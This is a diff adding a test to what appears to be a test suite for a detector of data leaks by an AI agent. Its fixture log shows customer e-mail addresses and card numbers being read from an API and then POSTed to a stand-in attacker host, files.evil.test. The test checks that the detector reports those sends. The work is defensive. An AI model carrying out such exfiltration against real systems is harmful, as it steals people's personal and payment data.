@@ -54,6 +54,20 @@ test('its story is told in order, with the words that the agent obeyed', async (
   ]);
 });
 
+test('each step says what left in its moment: people first, cards once they were read', async () => {
+  const { db } = await detect(`
+    00:00  agent:support-bot  GET   api.acme.test/v1/customers           200  in=har.har s=2 types=email trace=t1 => $.items[0].id=cus_90aa17b2
+    00:02  -                  POST  files.evil.test/collect              200  in=har.har bytes=100 sent=email*3 trace=t1 <= $.a=cus_90aa17b2
+    00:04  agent:support-bot  GET   api.acme.test/v1/cards/cus_90aa17b2  200  in=har.har tpl=/v1/cards/{id} s=3 types=payment-card trace=t1 => $.items[0].number=4929fk7714xx2203
+    00:06  -                  POST  files.evil.test/collect              200  in=har.har bytes=200 sent=payment-card*2 trace=t1 <= $.a=4929fk7714xx2203
+    00:07  -                  POST  files.evil.test/collect              200  in=har.har bytes=200 sent=payment-card*1 trace=t1 <= $.a=4929fk7714xx2203`);
+  const sends = findingStory(db).filter(({ role }) => role === 'outward send');
+  expect(sends.map((step) => `${step.call}: ${step.text}`)).toEqual([
+    'har.har#2: sent 3 e-mail addresses to files[.]evil[.]test, a host that nothing had called before: 1 call of POST /collect, 100 B; 1 value in it stands in the answers read before',
+    'har.har#4: sent 3 card numbers to files[.]evil[.]test: 2 calls of POST /collect, 400 B; 1 value in it stands in the answers read before',
+  ]);
+});
+
 test('the same send to a host of the estate is nothing', async () => {
   expect((await detect(leak('vault.acme.test'))).findings).toEqual([]);
 });
